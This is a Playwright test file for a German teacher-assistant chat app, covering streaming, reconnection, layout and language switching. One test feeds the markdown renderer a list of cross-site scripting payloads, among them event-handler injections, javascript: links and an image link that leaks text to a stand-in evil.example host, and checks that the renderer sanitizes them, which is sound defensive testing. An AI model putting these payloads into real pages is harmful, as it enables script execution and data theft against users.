"""The page at `/`, used as a teacher uses it: in a real browser, on the real server."""

import pytest
from playwright.async_api import expect

from eduhu.mirror.realtime import BROWSER_CODE
from tests.browser import LAPTOP, PHONE, QUESTION, Visit, ask, finished, sign_in

pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="session")]


# The first answer arrives in pieces of 7 bytes, so frames and characters are cut in two,
# and its connection breaks after 900 bytes.
CUT_FIRST_ANSWER = """
const realFetch = window.fetch;
window.resumes = [];
let cut = false;
window.fetch = async (path, options) => {
  if (String(path).includes("/events")) window.resumes.push(options.headers["Last-Event-ID"]);
  const response = await realFetch(path, options);
  if (path !== "/api/chat" || cut) return response;
  cut = true;
  let left = 900;
  const saw = new TransformStream({
    transform(chunk, controller) {
      for (let at = 0; at < chunk.length; at += 7) controller.enqueue(chunk.slice(at, at + 7));
      if ((left -= chunk.length) < 0) controller.error(new TypeError("cut"));
    },
  });
  return new Response(response.body.pipeThrough(saw), response);
};
"""

# What the teacher sees of the answer, each time it changes.
WATCH = """
new MutationObserver(() => {
  const length = document.querySelector(".answer .markdown")?.textContent.length;
  if (length && length !== seen.at(-1)) seen.push(length);
  if (length && window.stopSoon) {
    window.stopSoon = false;
    document.querySelector("#composer-stop").click();
  }
}).observe(document, { childList: true, subtree: true, characterData: true });
window.seen = [];
"""

HOSTILE = """
# <img src=x onerror="window.hacked=1"> heading
<script>window.hacked = 1</script> [a](javascript:alert(1)) [b](java&#115;cript:alert(1))
[c](data:text/html,x) [d](//evil.example/x) [e](https://user@evil.example) <javascript:alert(1)>
![picture](https://evil.example/leak?text=secret) **bold <svg onload=alert(1)>**
[good](https://good.example/path "t\\" onmouseover=alert(1)")

| <b onclick=alert(1)>cell</b> | [x](vbscript:x) |
| --- | --- |
| `</code><img src=x>` | <iframe src="https://evil.example"></iframe> |
"""

SAFE_TAGS = {"h2", "p", "br", "a", "strong", "code", "div"} | {
    "table", "thead", "tbody", "tr", "th", "td"
}  # fmt: skip


async def test_wrong_password_is_explained_in_german(visit: Visit) -> None:
    page = await visit()
    await sign_in(page, "wrong")
    message = page.locator("#login-message")
    await expect(message).to_contain_text("Passwort")
    await expect(page.locator("#workspace")).to_be_hidden()
    await expect(page.locator("#login-email")).to_have_value("demo@eduhu.example")


async def test_lesson_plan_streams_in_and_is_there_after_a_reload(visit: Visit) -> None:
    page = await visit(script=WATCH)
    await sign_in(page)
    await page.locator("[data-example]").first.click()
    await expect(page.locator("#composer-input")).to_have_value(QUESTION)
    await page.press("#composer-input", "Enter")
    whole = await finished(page)
    seen = await page.evaluate("window.seen")
    assert len(seen) > 5
    assert seen[0] < seen[-1] / 2
    await expect(page.locator(".answer .demo")).to_be_visible()
    await expect(page.locator(".answer table tbody tr").first).to_be_visible()
    await expect(page.locator("#chats a[aria-current=page]")).to_contain_text("Unterrichtsentwurf")
    await page.reload()
    assert await finished(page) == whole
    await expect(page.locator(".question p")).to_have_text(QUESTION)


async def test_stop_keeps_the_text_so_far(visit: Visit) -> None:
    page = await visit(script=WATCH + "window.stopSoon = true;")
    await sign_in(page)
    await ask(page)
    kept = await finished(page)
    await expect(page.locator(".answer .state")).to_contain_text("Gestoppt")
    await expect(page.locator("#notice")).to_be_hidden()
    await page.reload()
    assert await finished(page) == kept


async def test_a_stopped_answer_is_written_on_where_it_ends(visit: Visit) -> None:
    page = await visit(script=WATCH + "window.stopSoon = true;")
    await sign_in(page)
    await ask(page)
    kept = await finished(page)
    await page.evaluate("window.stopSoon = false")
    await page.get_by_role("button", name="Weiterschreiben").click()
    await expect(page.locator(".answer .copy")).to_be_hidden()
    whole = await finished(page)
    await expect(page.get_by_role("button", name="Weiterschreiben")).to_be_hidden()
    assert len(whole) > len(kept)
    assert whole.startswith(kept.lstrip("*")[:30])  # an emphasis may still have been open
    await expect(page.locator(".question")).to_have_count(1)
    await expect(page.locator(".answer")).to_have_count(1)
    await page.reload()
    assert await finished(page) == whole


async def test_broken_connection_is_taken_up_without_loss(visit: Visit) -> None:
    page = await visit(script=CUT_FIRST_ANSWER)
    await sign_in(page)
    await ask(page)
    followed = await finished(page)
    resumes = await page.evaluate("window.resumes")
    assert len(resumes) == 1
    assert int(resumes[0]) > 0
    await page.reload()
    assert await finished(page) == followed


@pytest.mark.claim(80)
async def test_typed_text_survives_a_failure_and_is_sent_once(visit: Visit) -> None:
    page = await visit()
    await sign_in(page)
    await page.route("**/api/chat", lambda route: route.abort())
    await ask(page, "Elternbrief zum Wandertag")
    await expect(page.locator("#notice")).to_contain_text("Keine Verbindung")
    await expect(page.locator("#composer-input")).to_have_value("Elternbrief zum Wandertag")
    await page.reload()
    await expect(page.locator("#composer-input")).to_have_value("Elternbrief zum Wandertag")
    await page.press("#composer-input", "Enter")
    await expect(page.locator("#notice .retry")).to_be_visible()
    await page.unroute("**/api/chat")
    await page.click("#notice .retry")
    await finished(page)
    await expect(page.locator(".question")).to_have_count(1)
    await expect(page.locator("#composer-input")).to_have_value("")


async def test_hostile_markdown_stays_text(visit: Visit) -> None:
    page = await visit()
    page.on("dialog", lambda dialog: pytest.fail(f"a script ran: {dialog.message}"))
    found = await page.evaluate(
        """async (text) => {
          const { MarkdownView } = await import("/static/chats/markdown.js");
          const body = document.createElement("div");
          document.body.append(body);
          const view = new MarkdownView(body);
          for (let end = 1; end <= text.length; end += 3) view.render(text.slice(0, end));
          view.render(text);
          const streamed = body.innerHTML;
          const whole = document.createElement("div");
          new MarkdownView(whole).render(text);
          return {
            tags: [...new Set([...body.querySelectorAll("*")].map((node) => node.localName))],
            handlers: [...body.querySelectorAll("*")].flatMap((node) =>
              node.getAttributeNames().filter((name) => name.startsWith("on"))),
            links: [...body.querySelectorAll("a")].map((a) => [a.getAttribute("href"), a.rel]),
            same: streamed === whole.innerHTML,
            hacked: window.hacked ?? null,
          };
        }""",
        HOSTILE,
    )
    assert set(found["tags"]) <= SAFE_TAGS
    assert found["handlers"] == []
    assert [href for href, _ in found["links"]] == [
        "https://evil.example/leak?text=secret",  # a picture is only a link
        "https://good.example/path",
        "https://evil.example/",  # what was an iframe is words and a link to click, or not
    ]
    assert all(rel == "noopener noreferrer nofollow" for _, rel in found["links"])
    assert found["same"]
    assert found["hacked"] is None


async def test_phone_fits_and_keeps_the_chats_in_a_drawer(visit: Visit) -> None:
    page = await visit(viewport=PHONE, has_touch=True, is_mobile=True)
    await sign_in(page)
    await ask(page)
    await finished(page)
    widths = (
        "[document.documentElement.scrollWidth, document.querySelector('#scroller').scrollWidth]"
    )
    assert max(await page.evaluate(widths)) <= PHONE["width"]
    await expect(page.locator("#side")).to_be_hidden()
    await page.click("#drawer-open")
    await expect(page.locator("#chats a").first).to_be_visible()
    await page.keyboard.press("Escape")
    await expect(page.locator("#side")).to_be_hidden()
    await expect(page.locator("#drawer-open")).to_be_focused()


@pytest.fixture
def page_of_a_mirror(settings, client):
    """What the server sends where it mirrors to InstantDB."""
    settings.INSTANT_APP_ADMIN_TOKEN = "there is one"
    return client.get("/").text


@pytest.mark.parametrize("size", [LAPTOP, {"width": 400, "height": 800}], ids=["wide", "narrow"])
async def test_developers_see_the_three_lines_that_follow_the_rows(
    visit: Visit, page_of_a_mirror: str, size: dict[str, int]
) -> None:
    page = await visit(html=page_of_a_mirror, viewport=size)
    lines, opener = page.locator("#developers"), page.get_by_role("button", name="Für Entwickler")
    await expect(opener).to_be_hidden()
    await sign_in(page)
    if size["width"] < LAPTOP["width"]:
        await page.click("#drawer-open")
    await opener.click()
    assert await lines.locator("code").text_content() == BROWSER_CODE
    assert BROWSER_CODE.count("\n") == 3
    widths = "[document.documentElement, developers].map((node) => node.scrollWidth)"
    assert max(await page.evaluate(widths)) <= size["width"]
    await lines.get_by_role("button", name="Schließen").click()
    await expect(lines).to_be_hidden()
    await expect(opener).to_be_focused()
    await page.locator(".account [data-toggle-language]").click()
    await page.get_by_role("button", name="For developers").press("Enter")
    await expect(lines).to_contain_text("POST /api/realtime/token returns")
    await page.keyboard.press("Escape")
    await expect(lines).to_be_hidden()


async def test_without_a_mirror_there_is_nothing_to_follow(visit: Visit) -> None:
    page = await visit()
    await sign_in(page)
    await expect(page.locator("#logout")).to_be_visible()
    await expect(page.locator("#developers")).to_have_count(0)
    assert "Für Entwickler" not in await page.locator("#side").inner_text()


async def test_language_can_be_changed_for_page_and_api(visit: Visit) -> None:
    page = await visit(locale="en-GB")
    await expect(page.locator("#login-form h1")).to_have_text("Sign in")
    await page.locator(".entry [data-toggle-language]").click()
    await expect(page.locator("#login-form h1")).to_have_text("Anmelden")
    await sign_in(page, "wrong")
    await expect(page.locator("#login-message")).to_contain_text("Passwort")
    await page.reload()
    await expect(page.locator("#login-form h1")).to_have_text("Anmelden")
    assert await page.locator("html").get_attribute("lang") == "de"


@pytest.mark.claim(87)
async def test_the_topic_is_corrected_and_an_answer_judged(visit: Visit) -> None:
    page = await visit()
    await sign_in(page)
    await ask(page)
    await finished(page)
    await page.select_option("#topic", label="Differenzierung")
    await expect(page.locator("#status")).to_have_text("Thema geändert: Differenzierung")
    down = page.get_by_role("button", name="Diese Antwort war nicht hilfreich")
    await down.click()
    await expect(page.locator("#status")).to_have_text("Danke für die Rückmeldung.")
    await page.reload()
    await expect(page.locator("#topic")).to_have_value("differentiation")
    await expect(down).to_have_attribute("aria-pressed", "true")
    await down.click()
    await expect(page.locator("#status")).to_have_text("Die Rückmeldung ist zurückgenommen.")
    await page.reload()
    await expect(down).to_have_attribute("aria-pressed", "false")
